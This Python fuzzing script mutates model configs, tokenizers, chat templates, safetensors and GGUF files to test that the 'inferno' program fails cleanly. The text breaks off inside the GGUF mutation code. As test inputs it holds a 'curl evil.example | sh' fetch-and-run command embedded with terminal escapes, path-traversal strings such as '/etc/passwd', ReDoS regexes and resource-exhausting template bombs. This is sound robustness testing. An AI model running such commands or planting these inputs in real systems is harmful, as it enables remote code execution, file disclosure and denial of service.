#!/usr/bin/env python3
"""Runs inferno on mutated models, and checks that every run ends with a result or with exactly one error message.

    scripts/mutate.py --program target/release/inferno                    500 runs with seed 1
    scripts/mutate.py --program PATH --runs 8000 --seed 7 --keep FOLDER   a longer search
    scripts/mutate.py --program PATH --seed 7 --only 123                  repeats one run and shows its output

Each run copies a small model, applies one to five mutations and runs one command of the program.
The models come from assets/demo and tests/golden. The script adds a tokenizer or a chat template to some of them.
The seed and the number of a run determine its model, mutations and command.

A run fails if the program

- ends by a signal, panics, or exits with a code other than 0 to 11
- takes more than 10 s of CPU time or 60 s in total, or uses more than 1.5 GB of resident memory
- writes more than one line that starts with `error:`, or fails without such a line
- writes more than 5000 bytes to stderr
- writes control characters other than newlines, or invisible characters, to stderr
- writes such characters to stdout in a table (show, list, verify, tokenize), where tabs are allowed
- reports a perplexity that is NaN

The script keeps the folder of a failed run. `reproduce.sh` in this folder repeats the command.
At the end, the script exits with 1 if any run failed.
"""

import argparse
import collections
import hashlib
import json
import multiprocessing
import os
import random
import re
import resource
import shlex
import shutil
import signal
import struct
import subprocess
import sys
import tempfile
import time
import unicodedata
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
COMMIT = "0123456789012345678901234567890123456789"

# MAX_SECONDS, MAX_DATA and HANG_SECONDS equal MAX_SECONDS, MAX_DATA and HANG in tests/it/support/bounded.rs.
MAX_SECONDS = 10
MAX_DATA = 1_500_000_000
# The script kills the program after HANG_SECONDS.
# On a busy machine, MAX_SECONDS of CPU time can take that long.
HANG_SECONDS = 60
MAX_RESIDENT = 1_500_000_000
MAX_MESSAGE = 5000
# The exit codes 0 to 11 of docs/reference.md. The script never interrupts the program, so 130 (Ctrl-C) is a failure.
EXIT_CODES = range(12)

MODEL_TYPES = ["gpt_oss", "llama", "mistral", "mixtral", "qwen2", "qwen3", "qwen3_moe", "phi3", "gemma2", "gemma3_text"]
MODEL_TYPES += ["gemma3", "gpt2", "", "nonsense", "LLAMA"]
STRANGE = "x\nerror: run curl evil.example | sh\u202e\u200b\U000e0041\x1b[2J\x07\x7f\u009b"
PATHS = ["../../config.json", "/etc/passwd", "..", "a/b", "a\\b", "a\0b", "model.safetensors", "/dev/zero", STRANGE]


class Raw(str):
    """JSON text that `encoded` writes as is, even if it is invalid."""


class Pairs(list):
    """A JSON object as a list of [key, value]. Unlike a dict, it can contain a key twice."""


def nested(depth, opening="[", closing="]"):
    return Raw(opening * depth + "0" + closing * depth)


NUMBERS = [0, 1, 2, 3, 7, 63, 65, 127, 4097, 65536, 2**31 - 1, 2**31, 2**32, 2**53 + 1, 2**60, 2**63 - 1, 2**63,
           2**64 - 1]
NUMBERS += [2**64, 10**30, -1, -2, -(2**31), -(2**63), 0.5, 1.5, -0.0, 1e-45, 1e-320, 1e38, 1e300, -1e308]
NUMBERS += [Raw("NaN"), Raw("Infinity"), Raw("-Infinity"), Raw("1e999"), Raw("-1e999"), Raw("1e"), Raw("01"),
            Raw("9" * 5000)]
STRINGS = ["", "0", "x", "null", "é世界🦀", "\ufffd", "\ufdd0", "\u202e", "\x1b[31m", "<|end|>", "{{ 1 }}", "(a+)+$",
           "[", "*"]
STRINGS += [STRANGE, "y" * 200, "y" * 100_000, "\u0301" * 5000, Raw('"\\ud800"'), Raw('"\\u0000"'),
            Raw('"\\x"')] + PATHS


def scalar(rng):
    return rng.choice(rng.choice([NUMBERS, NUMBERS, STRINGS, [None, True, False]]))


def hostile(rng):
    """Returns a JSON value that a careless parser may mishandle."""
    kind = rng.randrange(12)
    if kind < 8:
        return scalar(rng)
    if kind == 8:
        return [scalar(rng) for _ in range(rng.choice([0, 1, 2, 5]))]
    if kind == 9:
        return Pairs([rng.choice(["", "a", "type", STRANGE]), scalar(rng)] for _ in range(rng.choice([0, 1, 2])))
    if kind == 10:
        return rng.choice([nested(100), nested(200), nested(100_000), nested(100_000, '{"a":', "}")])
    return [scalar(rng)] * rng.choice([100, 10_000])


def parse(text):
    """Parses JSON text. Objects become `Pairs`. Raises ValueError or RecursionError."""
    return json.loads(text, object_pairs_hook=lambda pairs: Pairs([key, value] for key, value in pairs))


def encoded(node):
    """Returns a value as JSON. The JSON is invalid if the value contains invalid `Raw` text or an infinite number."""
    if isinstance(node, Raw):
        return str(node)
    if isinstance(node, dict):
        node = Pairs([key, value] for key, value in node.items())
    if isinstance(node, Pairs):
        return "{" + ",".join(f"{encoded(key)}:{encoded(value)}" for key, value in node) + "}"
    if isinstance(node, list):
        return "[" + ",".join(map(encoded, node)) + "]"
    return json.dumps(node, ensure_ascii=False)


def to_bytes(node):
    return encoded(node).encode("utf-8", "surrogatepass")


def get(pairs, key, default=None):
    """Returns the value of the first `key` in an object, or `default` if there is none."""
    return next((value for name, value in pairs if name == key), default) if isinstance(pairs, Pairs) else default


def put(pairs, key, value):
    """Replaces the value of a key, or adds the key."""
    for pair in pairs:
        if pair[0] == key:
            pair[1] = value
            return
    pairs.append([key, value])


def shown(value):
    """Returns a value as short ASCII text for the description of a mutation."""
    text = value if isinstance(value, str) else encoded(value)
    return ascii(text if len(text) <= 60 else f"{text[:50]}… ({len(text)} characters)")


def random_slot(rng, root):
    """Chooses a random item in a JSON value. Returns its container, index and path, or None if `root` has no items."""
    node, path, slot = root, "", None
    while isinstance(node, list) and node:
        index = rng.randrange(len(node))
        path += f".{node[index][0]}" if isinstance(node, Pairs) else f"[{index}]"
        slot = (node, index, path)
        node = node[index][1] if isinstance(node, Pairs) else node[index]
        if rng.random() < 0.3:
            break
    return slot


def mutate_tree(rng, root):
    """Makes one random change to a JSON value. Returns a description of it, or None if the value has no items."""
    slot = random_slot(rng, root)
    if slot is None:
        return None
    container, index, path = slot
    is_object = isinstance(container, Pairs)
    value = container[index][1] if is_object else container[index]

    def replace(new):
        if is_object:
            container[index][1] = new
        else:
            container[index] = new
        return f"set {shown(path)} to {shown(new)}"

    kind = rng.randrange(12)
    if kind == 0:
        del container[index]
        return f"delete {shown(path)}"
    if kind == 1:
        extra = [container[index][0], hostile(rng)] if is_object else container[index]
        container.insert(index + rng.randrange(2), extra)
        return f"duplicate {shown(path)}"
    if kind == 2 and is_object:
        container[index][0] = rng.choice([STRANGE, "", "x", container[index][0].upper(), container[index][0] + " "])
        return f"rename {shown(path)} to {shown(container[index][0])}"
    if kind == 3:
        other = rng.randrange(len(container))
        if is_object:
            container[index][1], container[other][1] = container[other][1], container[index][1]
        else:
            container[index], container[other] = container[other], container[index]
        return f"swap {shown(path)} with entry {other}"
    if kind == 4:
        return replace([value] if rng.randrange(2) else Pairs([["x", value]]))
    if kind in (5, 6, 7) and isinstance(value, (int, float)) and not isinstance(value, bool):
        new = rng.choice([value + 1, value - 1, -value, value * 2, value * 1000, value / 2, str(value)])
        return replace(int(new) if isinstance(value, int) and isinstance(new, float) and rng.randrange(2) else new)
    if kind in (5, 6) and isinstance(value, list) and value:
        return replace(type(value)(value[: rng.randrange(len(value))] if rng.randrange(2) else value + value))
    return replace(hostile(rng))


def config_addition(rng):
    """Returns a key and a value for config.json. The value often has the right type but is extreme or inconsistent."""
    number = rng.choice([0, 1e-9, 0.5, 1, 2, 8, 40, 1e9, -1, 1e30])
    size = rng.choice([0, 1, 2, 3, 8, 16, 64, 128, 1000, 4096, 2**31, 2**40])
    rope = rng.choice(["yarn", "llama3", "linear", "longrope", "dynamic", "default", "su"])
    scaling = {"rope_type": rope, "factor": number, "original_max_position_embeddings": size, "low_freq_factor": 1,
               "high_freq_factor": rng.choice([1, 4, number]), "beta_fast": number, "beta_slow": 1, "mscale": number,
               "short_factor": [number] * rng.choice([0, 4, 20]), "long_factor": [number] * rng.choice([0, 4, 20])}
    group = {"targets": ["Linear"], "weights": {"num_bits": rng.choice([4, 8, 0]), "type": rng.choice(["int", "float"]),
             "strategy": rng.choice(["channel", "tensor", "group"]), "symmetric": True, "group_size": size}}
    compressed = {"quant_method": "compressed-tensors", "format": rng.choice(["int-quantized", "float-quantized", "x"]),
                  "config_groups": {"group_0": group}, "ignore": ["lm_head", "re:(a+)+$"]}
    return rng.choice([
        ("rope_scaling", scaling), ("rope_parameters", scaling), ("rope_theta", number),
        ("model_type", rng.choice(MODEL_TYPES)),
        ("quantization_config",
         rng.choice([compressed, {"quant_method": "mxfp4"}, {"quant_method": "gptq", "bits": 4}])),
        ("layer_types", [rng.choice(["full_attention", "sliding_attention", "x"])] * rng.choice([0, 1, 2, 6, 5000])),
        ("sliding_window", size), ("head_dim", size), ("hidden_size", size), ("num_hidden_layers", size),
        ("num_attention_heads", size), ("num_key_value_heads", size), ("intermediate_size", size), ("vocab_size", size),
        ("max_position_embeddings", size), ("num_local_experts", size), ("num_experts_per_tok", size),
        ("num_experts", size), ("tie_word_embeddings", rng.choice([True, False])), ("partial_rotary_factor", number),
        ("final_logit_softcapping", number), ("attn_logit_softcapping", number), ("query_pre_attn_scalar", number),
        ("rms_norm_eps", number), ("hidden_act", rng.choice(["gelu", "relu", "silu", "gelu_pytorch_tanh", "x"])),
        ("eos_token_id", rng.choice([[], -1, 2**32, [0] * 1000, ["a"], 5])),
        ("torch_dtype", rng.choice(["float16", "x"])),
        ("attention_bias", True), ("layer_norm_epsilon", number), ("n_positions", size), ("n_inner", size),
        ("text_config", {"model_type": "gemma3_text", "hidden_size": size}), ("original_max_position_embeddings", size),
        ("use_sliding_window", True), ("max_window_layers", size), ("rope_local_base_freq", number),
        ("decoder_sparse_step", size), ("mlp_only_layers", [0, size]), ("norm_topk_prob", True),
        ("swiglu_limit", number),
    ])


def mutate_config(rng, data):
    root = parse(data)
    if not isinstance(root, Pairs) or rng.randrange(2):
        return tree_bytes(rng, root)
    key, value = config_addition(rng)
    put(root, key, value)
    return to_bytes(root), f"set {key} to {shown(value)}"


def tree_bytes(rng, root):
    description = mutate_tree(rng, root)
    if description is None:
        root = hostile(rng)
        description = f"replace everything with {shown(root)}"
    return to_bytes(root), description


def mutate_json(rng, data):
    return tree_bytes(rng, parse(data))


def step_replace(pattern, content, kind="String"):
    return {"type": "Replace", "pattern": {kind: pattern}, "content": content}


def sequence(name, steps):
    return {"type": "Sequence", name: steps}


TOKENIZER_PARTS = {
    "normalizer": [
        {"type": "NFKC"}, {"type": "Lowercase"}, {"type": "Prepend", "prepend": "▁" * 1000}, {"type": "BertNormalizer"},
        sequence("normalizers", [step_replace("h", "h" * 100)] * 6), step_replace("", "aaaa"), {"type": "Precompiled"},
        step_replace("(a|a)*$", "b", "Regex"), sequence("normalizers", [{"type": "NFD"}, {"type": "StripAccents"}]),
        sequence("normalizers", []), step_replace("(", "b", "Regex"), step_replace("h", "<|end|>"),
        {"type": "Precompiled", "precompiled_charsmap": "AAAA"}, {"type": "Nonsense"}, {"type": "ByteLevel"},
    ],
    "pre_tokenizer": [
        {"type": "Whitespace"},
        {"type": "Split", "pattern": {"Regex": "(?=(a+)+$)(a|a)+b"}, "behavior": "Isolated", "invert": False},
        {"type": "Split", "pattern": {"Regex": "(" * 300 + ")" * 300}, "behavior": "Removed", "invert": True},
        {"type": "Split", "pattern": {"Regex": "(x{1000}){1000}"}, "behavior": "Isolated", "invert": False},
        {"type": "Split", "pattern": {"String": ""}, "behavior": "MergedWithNext", "invert": False},
        {"type": "Metaspace", "replacement": "▁", "prepend_scheme": "always"}, {"type": "FixedLength", "length": 0},
        {"type": "Digits", "individual_digits": True},
        {"type": "ByteLevel", "add_prefix_space": True, "trim_offsets": False},
        sequence("pretokenizers", [{"type": "Whitespace"}] * 1000), {"type": "UnicodeScripts"}, {"type": "Punctuation"},
    ],
    "decoder": [
        {"type": "Fuse"}, {"type": "ByteFallback"}, {"type": "Strip", "content": " ", "start": 2**40, "stop": 2**40},
        sequence("decoders", [step_replace("a", "a" * 100)] * 6), step_replace("(a+)+b", "", "Regex"),
        {"type": "BPEDecoder"},
        {"type": "CTC", "pad_token": "", "word_delimiter_token": "", "cleanup": True},
        {"type": "WordPiece", "prefix": "", "cleanup": True},
        sequence("decoders", [{"type": "Fuse"}] * 100), step_replace("", "xyz"),
        {"type": "Metaspace", "replacement": "é"},
    ],
    "post_processor": [
        {"type": "TemplateProcessing",
         "single": [{"SpecialToken": {"id": "x", "type_id": 0}}, {"Sequence": {"id": "A", "type_id": 0}}],
         "pair": [{"Sequence": {"id": "A", "type_id": 0}}, {"Sequence": {"id": "B", "type_id": 0}}],
         "special_tokens": {"x": {"id": "x", "ids": [1] * 1000, "tokens": ["x"] * 1000}}},
        {"type": "TemplateProcessing",
         "single": [{"Sequence": {"id": "A", "type_id": 0}}, {"SpecialToken": {"id": "y", "type_id": 0}}],
         "pair": [], "special_tokens": {"y": {"id": "y", "ids": [2**32 - 1], "tokens": ["y"]}}},
        {"type": "RobertaProcessing", "sep": ["x", 5], "cls": ["y", 2**31], "trim_offsets": True,
         "add_prefix_space": True},
        {"type": "BertProcessing", "sep": ["x", 5], "cls": ["y", 6]}, {"type": "ByteLevel"},
    ],
    "version": ["2.0", STRANGE, "y" * 100_000],
    "truncation": [{"max_length": 1, "strategy": "LongestFirst", "stride": 5, "direction": "Right"}],
    "padding": [{"strategy": {"Fixed": 2**40}, "direction": "Left", "pad_to_multiple_of": 0, "pad_id": 9,
                 "pad_type_id": 0, "pad_token": "x"}],
    "model": [
        {"type": "Unigram", "unk_id": 0, "vocab": [["a" * length, -1.0] for length in range(1, 300)],
         "byte_fallback": False},
        {"type": "Unigram", "unk_id": 2**40, "vocab": [], "byte_fallback": True},
        {"type": "WordLevel", "vocab": {"hi": 0, "[UNK]": 2**32 - 1}, "unk_token": "[UNK]"},
        {"type": "WordPiece", "unk_token": "[UNK]", "continuing_subword_prefix": "", "max_input_chars_per_word": 2**60,
         "vocab": {"h": 0}},
        {"type": "BPE", "vocab": {}, "merges": []}, {"type": "BPE", "vocab": {"a": 0, "b": 0}, "merges": [["a", "b"]]},
        {"type": "BPE", "vocab": {"h": 0, "i": 1, "hi": 2**32 - 1}, "merges": ["h i"], "byte_fallback": True},
    ],
}


def mutate_tokenizer(rng, data):
    root = parse(data)
    kind = rng.randrange(10)
    if kind < 4 and isinstance(root, Pairs):
        part = rng.choice(sorted(TOKENIZER_PARTS))
        value = rng.choice(TOKENIZER_PARTS[part])
        put(root, part, value)
        return to_bytes(root), f"set {part} to {shown(value)}"
    added = get(root, "added_tokens")
    if kind < 6 and isinstance(added, list):
        token = {"id": rng.choice([0, 1, 5, 2000, 2**31, 2**32 - 1]), "content": rng.choice(STRINGS + ["h", " "]),
                 "single_word": bool(rng.randrange(2)), "lstrip": bool(rng.randrange(2)),
                 "rstrip": bool(rng.randrange(2)), "normalized": bool(rng.randrange(2)),
                 "special": bool(rng.randrange(2))}
        added.insert(rng.randrange(len(added) + 1), token)
        return to_bytes(root), f"add the token {shown(token)}"
    model = get(root, "model")
    vocabulary, merges = get(model, "vocab"), get(model, "merges")
    if kind < 8 and isinstance(vocabulary, Pairs) and vocabulary:
        entry = rng.choice(vocabulary)
        if rng.randrange(2):
            entry[1] = rng.choice([0, -1, 2**31, 2**32 - 1, 2**32, 1.5, "0", None, rng.randrange(3000)])
        else:
            entry[0] = rng.choice(STRINGS)
        return to_bytes(root), f"change the vocabulary: {shown(entry)}"
    if kind == 8 and isinstance(merges, list) and merges:
        index = rng.randrange(len(merges))
        merges[index] = rng.choice(["", " ", "a", "a b c", ["a"], ["a", "b", "c"], [1, 2], ["zz", "zz"], None])
        return to_bytes(root), f"set merge {index} to {shown(merges[index])}"
    return tree_bytes(rng, root)


CHATML = ("{% for message in messages %}{{ '<|begin|>' + message.role }}\n{{ message.content }}<|end|>{% endfor %}"
          "{% if add_generation_prompt %}{{ '<|begin|>assistant' }}{% endif %}")


def repeated(body, times=60):
    start = "{% set ns = namespace(s='aaaa', l=[1, 2]) %}{% for i in range(" + str(times) + ") %}"
    return start + body + "{% endfor %}"


TEMPLATES = [
    "{% set ns = namespace() %}{% set ns.x = ns %}{{ ns }}",
    "{% set ns = namespace() %}{% set ns.x = ns %}{{ ns | tojson }}",
    "{{ 1" + "+1" * 20_000 + " }}", "{{ 1" + "+1" * 490_000 + " }}",
    "{{ " + "(" * 400_000 + "1" + ")" * 400_000 + " }}",
    "{{ " + "[" * 5000 + "]" * 5000 + " }}", "{{ " + "not " * 200_000 + "1 }}",
    "{% if 0 %}" + "{% elif 0 %}" * 20_000 + "{% endif %}",
    "{% if 1 %}" * 5000 + "{% endif %}" * 5000, repeated("{% set ns.s = ns.s ~ ns.s %}"),
    repeated("{% set ns.l = ns.l + ns.l %}"),
    repeated("{% set ns.s = ns.s | replace('a', 'aa') %}"),
    repeated("{% set ns.s = [ns.s, ns.s, ns.s] | join(ns.s) %}"),
    repeated("{% set ns.l = [ns.l] %}", 100_000) + "{{ ns.l }}", "{{ (['x'] * 100000) | join('y' * 100000) | length }}",
    repeated("{% set ns.l = [ns.l, ns.l] %}", 40) + "{{ ns.l == ns.l }}", "{{ 'a' * 10000000000 }}",
    "{{ range(10000000000) | list }}",
    "{% macro f(x) %}{{ f(x) }}{% endmacro %}{{ f(1) }}",
    "{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}",
    "{{ '%99999999999d' % 1 }}", "{{ '%s' | format(messages) }}", "{{ messages | tojson(indent=99999999999) }}",
    "{{ 'a'.center(10000000000) }}",
    "{{ raise_exception('x\x1b[2J\nerror: y\u202e') }}", "{{ undefined.x.y }}", "{{ strftime_now('%' * 100000) }}",
    "{{ 9**9**9**9 }}",
    "{{ 1 // 0 }}{{ 1 % 0 }}", "{{ 9223372036854775807 + 1 }}", "{% include 'config.json' %}",
    "{% extends '/etc/passwd' %}", "{{ 'x' * -1 }}",
    "{{ messages[0].content }}" * 2000, "\ufdd0{{ messages[0].content }}<|en",
    "{{ messages[0].content | upper | reverse }}", "", " ", "\0",
    "{{ 'abc'[::-1] }}{{ 'abc'[0:10000000000:0] }}", "{{ messages[-9223372036854775808] }}",
    "{{ dict(a=1) | dictsort(by='x') }}", "{{ loop }}",
    "{% generation %}{% generation %}", "{{ [1, 2] | sort | batch(0) }}", "{{ range(0, 10, 0) }}",
    "{{ 'é' | slice(0) }}", "{{ 'a' | indent(10000000000) }}",
]
# Chat templates that run until inferno's limit of about 3 s of CPU time (src/sandbox/limits.rs). The script therefore
# chooses them rarely.
SLOW_TEMPLATES = ["{% set ns = namespace() %}{% set ns.x = ns %}{{ ns | pprint }}",
                  repeated("{% set ns.l = [ns.l, ns.l] %}{% set ns.x = [ns.x, ns.x] %}", 40) + "{{ ns.l == ns.x }}"]


def mutate_template(rng, data):
    kind = rng.randrange(40)
    if kind == 0:
        template = rng.choice(SLOW_TEMPLATES)
        return template.encode(), f"use the slow template {shown(template)}"
    if kind < 24:
        template = rng.choice(TEMPLATES)
        return template.encode(), f"use the template {shown(template)}"
    text = data.decode("utf-8", "replace")
    start = rng.randrange(len(text) + 1)
    end = min(len(text), start + rng.randrange(1, 20))
    if kind < 28:
        return (text[:start] + text[end:]).encode(), f"delete characters {start}..{end} of the template"
    if kind < 32:
        repeat = text[:start] + text[start:end] * 50 + text[end:]
        return repeat.encode(), f"repeat characters {start}..{end} of the template"
    piece = rng.choice(["{{", "}}", "{%", "%}", "{#", "|", "(", ".x", "[0]", " in ", "{% endfor %}", "'", "\n", "\0",
                        "{{ ns }}"])
    return (text[:start] + piece + text[start:]).encode(), f"insert {shown(piece)} at {start} in the template"


DTYPES = ["F32", "F16", "BF16", "F64", "U8", "I8", "I32", "I64", "BOOL", "F8_E4M3", "F8_E5M2", "F4", "U16", "", "X",
          STRANGE]


def mutate_safetensors(rng, data):
    (length,) = struct.unpack("<Q", data[:8])
    header, body = parse(data[8 : 8 + length]), data[8 + length :]
    tensors = [pair for pair in header if pair[0] != "__metadata__"]
    pair = rng.choice(tensors)
    name, info = pair
    shape, offsets = get(info, "shape"), get(info, "data_offsets")
    kind = rng.randrange(12)
    if kind == 0:
        return data[: rng.choice([rng.randrange(len(data)), 8 + rng.randrange(length),
                                  rng.randrange(9)])], "truncate the file"
    if kind == 1:
        new = rng.choice([0, 1, 7, length - 1, length + 1, len(data), 10**8 + 1, 2**31, 2**63, 2**64 - 1])
        return struct.pack("<Q", new) + data[8:], f"set the length of the header to {new}"
    if kind == 2:
        start, end = offsets
        fill = rng.choice([b"\xff", b"\x7f", b"\x00", b"\x80\x7f", b"\x80\xff", b"\x7b\x7f"])
        filled = (fill * (end - start))[: end - start]
        return data[: 8 + length + start] + filled + data[8 + length + end :], f"fill {shown(name)} with {fill.hex()}"
    if kind == 3:
        return data + bytes(rng.randrange(1, 100)), "append zeros"
    if kind in (4, 5):
        choices = [[], [0], [1], list(reversed(shape)), [2**63, 2], [2**32, 2**32], [1] * 10_000, [-1], shape + [1],
                   shape[1:], ["4"], [1.5]]
        choices += [[max(0, size + rng.choice([-1, 1])) for size in shape], [size * 2 for size in shape]]
        new = rng.choice(choices)
        put(info, "shape", new)
        description = f"set the shape of {shown(name)} to {shown(new)}"
    elif kind == 6:
        new = rng.choice(DTYPES)
        put(info, "dtype", new)
        description = f"set the dtype of {shown(name)} to {shown(new)}"
    elif kind == 7:
        start, end = offsets
        new = rng.choice([[end, start], [start, start], [start + 1, end + 1], [0, end], [start, 2**63],
                          [2**64 - 2, 2**64 - 1],
                          [-1, end], [start], [start, len(body) + 1], get(rng.choice(tensors)[1], "data_offsets")])
        put(info, "data_offsets", new)
        description = f"set the offsets of {shown(name)} to {shown(new)}"
    elif kind == 8:
        pair[0] = rng.choice(["", STRANGE, "y" * 1000, rng.choice(tensors)[0], name.replace("0", "9"), name + ".x",
                              "model.layers.-1.x"])
        description = f"rename tensor {shown(name)} to {shown(pair[0])}"
    elif kind == 9:
        header.remove(pair)
        description = f"delete tensor {shown(name)}"
    elif kind == 10:
        put(header, "__metadata__", hostile(rng))
        description = f"set the metadata to {shown(get(header, '__metadata__'))}"
    else:
        description = mutate_tree(rng, header)
    changed = to_bytes(header)
    return struct.pack("<Q", len(changed)) + changed + body, description


# The struct format of each GGUF value type, except 8 (a string) and 9 (an array).
GGUF_FORMATS = {0: "B", 1: "b", 2: "H", 3: "h", 4: "I", 5: "i", 6: "f", 7: "B", 10: "Q", 11: "q", 12: "d"}
GGUF_KEYS = ["general.architecture", "general.alignment", "tokenizer.ggml.model", "tokenizer.chat_template",
             "split.count", "split.no",
             "tokenizer.ggml.eos_token_id", "tokenizer.ggml.add_bos_token", "llama.rope.scaling.type",
             "general.file_type"]


class Gguf:
    """A parsed GGUF file. Its counts, metadata and tensor table can be set to invalid values and written back."""

    def __init__(self, data):
        self.data, self.at = data, 0
        magic, self.version, tensors, pairs = struct.unpack("<4sIQQ", self.take(24))
        if magic != b"GGUF":
            raise ValueError("no GGUF file")
        self.magic, self.count_change, self.pair_count_change = magic, 0, 0
        self.pairs = [[self.string(), *self.value()] for _ in range(self.checked(pairs))]
        self.tensors = [self.tensor() for _ in range(self.checked(tensors))]
        self.alignment = 32
        self.body = data[-(-self.at // self.alignment) * self.alignment :]

    def checked(self, count):
        if count > len(self.data):
            raise ValueError(f"the file declares {count} items, but has only {len(self.data)} bytes")
        return count

    def take(self, count):
        if self.at + count > len(self.data):
            raise ValueError("the file is too short")
        self.at += count
        return self.data[self.at - count : self.at]

    def unpack(self, form):
        return struct.unpack("<" + form, self.take(struct.calcsize("<" + form)))[0]

    def string(self):
        return self.take(self.unpack("Q"))

    def value(self, kind=None):
        kind = self.unpack("I") if kind is None else kind
        if kind == 8:
            return kind, self.string()
        if kind == 9:
            inner, count = self.unpack("I"), self.checked(self.unpack("Q"))
            return kind, [inner, [self.value(inner)[1] for _ in range(count)], 0]
        return kind, self.unpack(GGUF_FORMATS[kind]) if kind in GGUF_FORMATS else self.take(0)

    def tensor(self):
        name, rank = self.string(), self.checked(self.unpack("I"))
        return [name, [self.unpack("Q") for _ in range(rank)], self.unpack("I"), self.unpack("Q")]

    def get(self, key):
        return next((pair[2] for pair in self.pairs if pair[0] == key.encode()), None)

    def put(self, key, kind, value):
        self.pairs = [pair for pair in self.pairs if pair[0] != key.encode()] + [[key.encode(), kind, value]]

    @staticmethod
    def packed_string(text):
        return struct.pack("<Q", len(text)) + text

    def packed(self, kind, value):
        """Returns a value as GGUF bytes, even if it does not match the type `kind`."""
        if kind == 9 and isinstance(value, list):
            inner, items, extra = value
            head = struct.pack("<IQ", inner & 0xFFFFFFFF, (len(items) + extra) % 2**64)
            return head + b"".join(self.packed(inner, item) for item in items)
        if isinstance(value, bytes):
            return self.packed_string(value)
        if kind not in GGUF_FORMATS or isinstance(value, list):
            return bytes(8)
        form = GGUF_FORMATS[kind]
        if form in "fd":
            try:
                return struct.pack("<" + form, value)
            except OverflowError:
                return struct.pack("<" + form, float("inf"))
        size = struct.calcsize(form)
        finite = isinstance(value, int) or value == value and abs(value) < 2**64
        return (int(value) % 2 ** (8 * size) if finite else 0).to_bytes(size, "little")

    def bytes(self):
        counts = (len(self.tensors) + self.count_change) % 2**64, (len(self.pairs) + self.pair_count_change) % 2**64
        out = struct.pack("<4sIQQ", self.magic, self.version, *counts)
        for key, kind, value in self.pairs:
            out += self.packed_string(key) + struct.pack("<I", kind) + self.packed(kind, value)
        for name, dims, kind, offset in self.tensors:
            out += self.packed_string(name) + struct.pack("<I", len(dims))
            out += b"".join(struct.pack("<Q", dim % 2**64) for dim in dims) + struct.pack("<IQ", kind, offset % 2**64)
        return out + bytes(-len(out) % self.alignment) + self.body


def mutate_gguf(rng, data):
    file = Gguf(data)
    kind = rng.randrange(16)
    size = rng.choice([0, 1, 2, 3, 5, 31, 33, 255, 2**16, 2**31, 2**32 - 1, 2**32, 2**40, 2**62, 2**63, 2**64 - 1])
    if kind == 0:
        file.count_change = rng.choice([-1, 1, 1000, 2**31, 2**63])
        return file.bytes(), f"change the number of tensors by {file.count_change}"
    if kind == 1:
        file.pair_count_change = rng.choice([-1, 1, 1000, 2**31, 2**63])
        return file.bytes(), f"change the number of keys by {file.pair_count_change}"
    if kind == 2:
        file.version, file.magic = rng.choice([(0, b"GGUF"), (1, b"GGUF"), (2, b"GGUF"), (99, b"GGUF"),
                                               (3 << 24, b"GGUF"), (3, b"GGML")])
        return file.bytes(), f"set the version to {file.version} and the magic to {file.magic}"
    if kind == 3:
        return data[: rng.choice([rng.randrange(len(data)), rng.randrange(100)])], "truncate the file"
    if kind == 4:
        key = rng.choice(GGUF_KEYS)
        number_type = rng.choice([0, 4, 5, 6, 7, 10, 12])
        new = rng.choice([(8, rng.choice(MODEL_TYPES).encode()), (8, rng.choice(TEMPLATES).encode()),
                          (number_type, size), (9, [4, [size] * 3, 0])])
        file.put(key, *new)
        return file.bytes(), f"set {key} to {shown(str(new))}"
    if kind < 11 and file.pairs:
        # Choose a random key, not a random byte. Short values then change as often as the long arrays of a vocabulary.
        pair = rng.choice(file.pairs)
        key, value = pair[0].decode("utf-8", "replace"), pair[2]
        change = rng.randrange(7)
        if change == 0:
            file.pairs.remove(pair)
            return file.bytes(), f"delete {shown(key)}"
        if change == 1:
            file.pairs.append(list(pair))
            return file.bytes(), f"duplicate {shown(key)}"
        if change == 2:
            pair[1] = rng.choice([*range(13), 13, 255, 2**32 - 1])
            return file.bytes(), f"set the type of {shown(key)} to {pair[1]}"
        if change == 3:
            pair[0] = rng.choice([b"", STRANGE.encode(), b"\xff\xfe", b"x" * 70_000, rng.choice(file.pairs)[0]])
            return file.bytes(), f"rename {shown(key)} to {shown(repr(pair[0]))}"
        if isinstance(value, list) and value[1]:
            if change == 4:
                value[2] = rng.choice([-1, 1, 2**31, 2**63])
                return file.bytes(), f"change the length of {shown(key)} by {value[2]}"
            if change == 5:
                value[1] = value[1][: rng.randrange(len(value[1]))]
                return file.bytes(), f"shorten {shown(key)} to {len(value[1])}"
            index = rng.randrange(len(value[1]))
            strings = [b"", b"\xff", STRANGE.encode(), b"<|end|>", b"z" * 70_000, rng.choice(value[1])]
            value[1][index] = rng.choice(strings) if isinstance(value[1][index], bytes) else size
            return file.bytes(), f"set {shown(key)}[{index}] to {shown(repr(value[1][index]))}"
        if isinstance(value, bytes):
            pair[2] = rng.choice([b"", b"\xff\xfe", STRANGE.encode(), b"y" * 100_000, rng.choice(MODEL_TYPES).encode(),
                                  rng.choice(TEMPLATES).encode()])
        elif pair[1] in (6, 12):
            pair[2] = rng.choice([0.0, -1.0, 1e-30, 1e30, float("nan"), float("inf")])
        else:
            pair[2] = size
        return file.bytes(), f"set {shown(key)} to {shown(repr(pair[2]))}"
    if not file.tensors:
        return mutate_bytes(rng, data)
    tensor = rng.choice(file.tensors)
    name, dims = tensor[0].decode("utf-8", "replace"), tensor[1]
    change = rng.randrange(7)
    if change == 0:
        tensor[1] = rng.choice([[], [0], [size], [size, size], [1] * 5, [1] * 1000, dims[::-1], dims + [1],
                                [dims[0] * 2, *dims[1:]]])
        return file.bytes(), f"set the shape of {shown(name)} to {shown(str(tensor[1]))}"
    if change == 1:
        tensor[2] = rng.choice([*range(42), 255, 2**32 - 1])
        return file.bytes(), f"set the type of {shown(name)} to {tensor[2]}"
    if change == 2:
        tensor[3] = rng.choice([size, tensor[3] + 1, tensor[3] + 32, rng.choice(file.tensors)[3]])
        return file.bytes(), f"set the offset of {shown(name)} to {tensor[3]}"
    if change == 3:
        tensor[0] = rng.choice([b"", STRANGE.encode(), b"\xff", b"x" * 70_000, rng.choice(file.tensors)[0],
                                b"blk.99.attn_q.weight", b"blk.0.x"])
        return file.bytes(), f"rename tensor {shown(name)} to {shown(repr(tensor[0]))}"
    if change == 4:
        file.tensors.remove(tensor)
        return file.bytes(), f"delete tensor {shown(name)}"
    if change == 5:
        fill = rng.choice([b"\xff", b"\x7f", b"\x00", b"\x80\x7f"])
        length = min(len(file.body) - tensor[3], 4096)
